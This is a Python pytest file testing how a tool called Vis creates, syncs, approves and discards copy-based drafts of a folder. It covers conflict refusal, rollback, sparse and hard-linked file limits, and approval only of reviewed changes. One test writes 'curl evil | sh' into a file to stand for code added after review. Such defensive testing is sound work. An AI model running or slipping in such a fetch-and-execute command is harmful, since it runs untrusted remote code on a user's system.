"""Drafts of a folder outside git: a copy, synced and approved file by file."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
from pathlib import Path

import pytest

from vis_core.drafts import DraftConflict, DraftError, Drafts
from vis_core.drafts import files as draft_files
from vis_core.model.draft import DraftBackend

from .conftest import unwritable


@pytest.fixture
def folder(workspace: Path) -> Path:
    (workspace / "notes.md").write_text("notes\n")
    (workspace / "sub").mkdir()
    (workspace / "sub" / "data.csv").write_text("a,b\n")
    (workspace / "run.sh").write_text("#!/bin/sh\n")
    (workspace / "run.sh").chmod(0o755)
    return workspace


def test_a_copy_draft_is_approved_back_and_discarded_without_a_trace(
    folder: Path, drafts: Drafts, vis_home: Path
) -> None:
    draft = drafts.create(folder, "s1", "plain")
    root = Path(draft.root)
    assert draft.backend is DraftBackend.COPY and root.is_relative_to(vis_home)
    assert (root / "sub" / "data.csv").read_text() == "a,b\n"
    assert (root / "run.sh").stat().st_mode & 0o111
    (root / "notes.md").write_text("notes, edited\n")
    (root / "sub" / "data.csv").unlink()
    (root / "new.txt").write_text("new\n")
    assert drafts.changed_files(draft) == ["new.txt", "notes.md", "sub/data.csv"]
    assert (folder / "notes.md").read_text() == "notes\n"

    drafts.approve(draft)

    assert (folder / "notes.md").read_text() == "notes, edited\n"
    assert (folder / "new.txt").read_text() == "new\n"
    assert not (folder / "sub" / "data.csv").exists()
    assert not root.exists() and drafts.listed() == []

    other = drafts.create(folder, "s1", "thrown")
    (Path(other.root) / "notes.md").write_text("never\n")
    drafts.discard(other)
    assert (folder / "notes.md").read_text() == "notes, edited\n"
    assert not Path(other.root).exists()


def test_sync_removes_from_the_draft_a_file_removed_live(folder: Path, drafts: Drafts) -> None:
    draft = drafts.create(folder, "s1", "plain")
    (folder / "run.sh").unlink()

    assert drafts.sync(draft) == ["run.sh"]
    assert not os.path.lexists(Path(draft.root) / "run.sh")
    assert drafts.changed_files(draft) == []


def test_approval_refuses_files_the_live_folder_changed_since(folder: Path, drafts: Drafts) -> None:
    draft = drafts.create(folder, "s1", "plain")
    (Path(draft.root) / "notes.md").write_text("the draft's\n")
    (Path(draft.root) / "new.txt").write_text("new\n")
    (folder / "notes.md").write_text("the person's\n")

    with pytest.raises(DraftConflict) as refused:
        drafts.approve(draft)

    assert refused.value.files == ("notes.md",)
    assert (folder / "notes.md").read_text() == "the person's\n"
    assert not (folder / "new.txt").exists()  # nothing half-copied
    assert drafts.listed() == [draft]


def test_sync_brings_the_live_changes_and_names_a_conflict(folder: Path, drafts: Drafts) -> None:
    draft = drafts.create(folder, "s1", "plain")
    root = Path(draft.root)
    (root / "notes.md").write_text("the draft's\n")
    (folder / "sub" / "data.csv").write_text("a,b\n1,2\n")
    (folder / "later.txt").write_text("later\n")

    assert drafts.sync(draft) == ["later.txt", "sub/data.csv"]
    assert (root / "sub" / "data.csv").read_text() == "a,b\n1,2\n"
    assert (root / "later.txt").read_text() == "later\n"

    (folder / "notes.md").write_text("the person's\n")
    with pytest.raises(DraftConflict) as refused:
        drafts.sync(draft)
    assert refused.value.files == ("notes.md",)
    assert (root / "notes.md").read_text() == "the draft's\n"
    assert drafts.changed_files(draft) == ["notes.md"]  # the synced files are its base now


def test_a_write_failing_midway_puts_every_file_back(folder: Path, drafts: Drafts) -> None:
    draft = drafts.create(folder, "s1", "plain")
    root = Path(draft.root)
    (root / "notes.md").write_text("notes, edited\n")  # written before the failing one
    (root / "run.sh").unlink()  # removed before it
    (root / "sub" / "data.csv").write_text("the draft's\n")  # this one fails
    (root / "sub" / "more").mkdir()
    (root / "sub" / "more" / "new.txt").write_text("new\n")
    before = sorted(str(p.relative_to(folder)) for p in folder.rglob("*"))

    with unwritable(folder / "sub" / "data.csv"), pytest.raises(DraftError, match="data.csv"):
        drafts.approve(draft)

    assert (folder / "notes.md").read_text() == "notes\n"
    assert (folder / "run.sh").read_text() == "#!/bin/sh\n"
    assert (folder / "sub" / "data.csv").read_text() == "a,b\n"
    assert sorted(str(p.relative_to(folder)) for p in folder.rglob("*")) == before
    assert drafts.listed() == [draft]

    drafts.approve(draft)
    assert (folder / "sub" / "data.csv").read_text() == "the draft's\n"
    assert not (folder / "run.sh").exists()


def _sparse(path: Path, size: int) -> None:
    """A file claiming ``size`` bytes that costs a block's code nothing to make."""
    with path.open("wb") as out:
        out.truncate(size)


def test_a_sparse_terabyte_file_is_named_never_read(folder: Path, drafts: Drafts) -> None:
    """Before, the draft read each file whole into memory to compare it: one sparse
    terabyte file made by the model's code exhausted the memory of Vis."""
    _sparse(folder / "disk.img", 1 << 40)
    with pytest.raises(DraftError, match=r"^disk\.img is 1\.0 TB, over the 256\.0 MB a draft"):
        drafts.create(folder, "s1", "big")
    assert drafts.listed() == []
    (folder / "disk.img").unlink()

    draft = drafts.create(folder, "s1", "big")
    (Path(draft.root) / "notes.md").write_text("notes, edited\n")
    _sparse(Path(draft.root) / "disk.img", 1 << 40)
    with pytest.raises(DraftError, match=r"^disk\.img is 1\.0 TB"):
        drafts.approve(draft)
    assert (folder / "notes.md").read_text() == "notes\n" and not (folder / "disk.img").exists()
    (Path(draft.root) / "disk.img").unlink()  # the draft stays usable
    drafts.approve(draft)
    assert (folder / "notes.md").read_text() == "notes, edited\n"


def _on_disk(folder: Path, names: list[str]) -> int:
    """Bytes the files ``names`` of ``folder`` take on disk (not their sizes)."""
    return sum((folder / name).stat().st_blocks * 512 for name in names)


def _digest(path: Path) -> str:
    with path.open("rb") as file:
        return hashlib.file_digest(file, "sha256").hexdigest()


def test_a_sparse_file_stays_sparse_in_the_draft_and_back(folder: Path, drafts: Drafts) -> None:
    """Before, each copy wrote every zero of a sparse file: three 1 GiB files a block made in
    an instant took 3 GiB of the host's disk at draft_create() (45 s). Entering, syncing and
    approving a draft now copy only the ranges that hold data."""
    size = 8 << 20  # each copy of its zeros would take 24 MiB, far over the 1 MiB allowed
    names = [f"blob{i}.bin" for i in range(3)]
    for name in names:
        _sparse(folder / name, size)
    with (folder / "blob0.bin").open("r+b") as blob:  # data in two places, holes around them
        blob.write(b"head")
        blob.seek(5 << 20)
        blob.write(b"middle")

    draft = drafts.create(folder, "s1", "fill")

    root = Path(draft.root)
    assert _on_disk(root, names) <= _on_disk(folder, names) + (1 << 20)  # was 24 MiB
    assert [(root / n).stat().st_size for n in names] == [size] * 3
    assert _digest(root / "blob0.bin") == _digest(folder / "blob0.bin")

    _sparse(folder / "later.bin", size)
    assert drafts.sync(draft) == ["later.bin"]
    _sparse(root / "made.bin", size)
    drafts.approve(draft)
    assert not root.exists()
    assert _on_disk(folder, ["made.bin"]) == 0 and (folder / "made.bin").stat().st_size == size


def test_a_copy_across_filesystems_keeps_holes_and_data(tmp_path: Path) -> None:
    """A file on another filesystem (tmpfs, where the kernel refuses copy_file_range with
    EXDEV) is copied a piece at a time: the data where it was, the holes kept."""
    shm = Path("/dev/shm")
    if not shm.is_dir() or shm.stat().st_dev == tmp_path.stat().st_dev:
        pytest.skip("no /dev/shm on another filesystem here")
    source = shm / f"vis-test-{os.getpid()}-{tmp_path.name}"
    try:
        with source.open("wb") as out:
            out.write(b"head")
            out.seek(32 << 20)
            out.write(b"tail")
        target = tmp_path / "copy.bin"
        with source.open("rb") as src, target.open("wb") as dst:
            draft_files.copy_data(src.fileno(), dst.fileno(), source.stat().st_size)
        assert target.stat().st_size == (32 << 20) + 4
        assert target.stat().st_blocks * 512 < 1 << 20
        assert _digest(target) == _digest(source)
    finally:
        source.unlink(missing_ok=True)


def test_a_file_linked_many_times_is_refused_past_what_a_draft_copies_in_all(
    folder: Path, drafts: Drafts
) -> None:
    """A block's 256 MiB file with 16 hard links costs it one file (nothing at all, sparse);
    before, a draft copied every name in full, with no bound in all. Now one file may be
    LARGEST_FILE, and a draft copies at most LARGEST_COPY in all: the name that takes it
    past is refused, and no draft is left."""
    _sparse(folder / "a00.img", draft_files.LARGEST_FILE)  # as large as one file may be
    for number in range(1, 17):
        os.link(folder / "a00.img", folder / f"a{number:02}.img")
    assert 16 * draft_files.LARGEST_FILE == draft_files.LARGEST_COPY

    with pytest.raises(
        DraftError,
        match=r"^a16\.img \(256\.0 MB\) takes what a draft copies past 4\.0 GB in all; move",
    ):
        drafts.create(folder, "s1", "links")

    assert drafts.listed() == []
    _sparse(folder / "a00.img", draft_files.LARGEST_FILE + 1)  # all 17 names grow by a byte
    with pytest.raises(DraftError, match=r"^a00\.img is 256\.0 MB, over the 256\.0 MB a draft"):
        drafts.create(folder, "s1", "links")


def test_a_file_read_in_pieces_has_gits_blob_id(folder: Path, drafts: Drafts) -> None:
    data = bytes(range(256)) * (3 * 4096 + 7)  # three pieces and some
    (folder / "blob.bin").write_bytes(data)
    draft = drafts.create(folder, "s1", "pieces")
    (Path(draft.root) / "blob.bin").write_bytes(data[:-1] + b"x")
    assert drafts.changed_files(draft) == ["blob.bin"]
    listed = json.loads((Path(draft.root).parent / "base.json").read_text())
    hashed = subprocess.run(
        ["git", "hash-object", "--no-filters", str(folder / "blob.bin")],
        capture_output=True, text=True, check=True,
    )  # fmt: skip
    assert listed["blob.bin"] == hashed.stdout.strip()


def test_a_copy_draft_changed_after_it_was_shown_for_approval_is_refused(
    folder: Path, drafts: Drafts
) -> None:
    """What the person approves is what they were shown: a file the model's code writes in
    the draft while the form is up is not copied back with the rest."""
    draft = drafts.create(folder, "s1", "shown")
    root = Path(draft.root)
    (root / "notes.md").write_text("shown\n")
    shown = drafts.review(draft)
    (root / "later.sh").write_text("curl evil | sh\n")

    with pytest.raises(DraftError, match=r"changed after it was shown .*1 file: later\.sh\)"):
        drafts.approve(draft, reviewed=shown.state)

    assert not (folder / "later.sh").exists() and (folder / "notes.md").read_text() == "notes\n"
    assert drafts.listed() == [draft]
    again = drafts.review(draft)
    assert again.files == ["later.sh", "notes.md"]
    drafts.approve(draft, reviewed=again.state)
    assert (folder / "later.sh").exists() and (folder / "notes.md").read_text() == "shown\n"


def _tree(folder: Path) -> dict[str, str | None]:
    """Each path beneath ``folder``: a file's text, None for a folder."""
    return {
        str(p.relative_to(folder)): None if p.is_dir() else p.read_text()
        for p in sorted(folder.rglob("*"))
    }


def test_a_folder_and_a_file_that_replaced_each_other_are_approved(
    folder: Path, drafts: Drafts
) -> None:
    """Before, approval failed with "Operation not permitted" (a folder became a file) or "Not
    a directory" (a file became a folder) and told the person to fix permissions."""
    draft = drafts.create(folder, "s1", "plain")
    root = Path(draft.root)
    shutil.rmtree(root / "sub")
    (root / "sub").write_text("a file now\n")
    (root / "run.sh").unlink()
    (root / "run.sh").mkdir()
    (root / "run.sh" / "inner.txt").write_text("inside\n")
    assert drafts.changed_files(draft) == ["run.sh", "run.sh/inner.txt", "sub", "sub/data.csv"]

    drafts.approve(draft)

    assert _tree(folder) == {
        "notes.md": "notes\n",
        "run.sh": None,
        "run.sh/inner.txt": "inside\n",
        "sub": "a file now\n",
    }  # and nothing set aside is left


def test_a_failure_after_a_folder_became_a_file_puts_the_folder_back(
    folder: Path, drafts: Drafts
) -> None:
    (folder / "zz.txt").write_text("last\n")
    draft = drafts.create(folder, "s1", "plain")
    root = Path(draft.root)
    shutil.rmtree(root / "sub")
    (root / "sub").write_text("a file now\n")
    (root / "zz.txt").write_text("the draft's\n")  # renamed in after sub, and fails
    before = _tree(folder)

    with unwritable(folder / "zz.txt"), pytest.raises(DraftError, match="zz.txt"):
        drafts.approve(draft)

    assert _tree(folder) == before
    drafts.approve(draft)
    assert (folder / "sub").read_text() == "a file now\n"


def test_a_file_the_draft_made_a_folder_comes_back_when_a_file_in_it_fails(
    workspace: Path,
) -> None:
    (workspace / "c.txt").write_text("c\n")

    def fails(_temporary: Path) -> None:
        raise OSError("the disk is full")

    with pytest.raises(draft_files.LandingFailed, match="the disk is full"):
        draft_files.land_files(workspace, [("c.txt", None), ("c.txt/in.txt", fails)])

    assert _tree(workspace) == {"c.txt": "c\n"}


def test_a_folder_the_draft_made_a_file_is_refused_while_it_holds_new_files(
    folder: Path, drafts: Drafts
) -> None:
    draft = drafts.create(folder, "s1", "plain")
    shutil.rmtree(Path(draft.root) / "sub")
    (Path(draft.root) / "sub").write_text("a file now\n")
    (folder / "sub" / "yours.txt").write_text("written after the draft began\n")

    with pytest.raises(DraftConflict, match="replaced a folder with a file") as refused:
        drafts.approve(draft)

    assert refused.value.files == ("sub/yours.txt",)
    assert (folder / "sub" / "yours.txt").exists() and (folder / "sub" / "data.csv").exists()
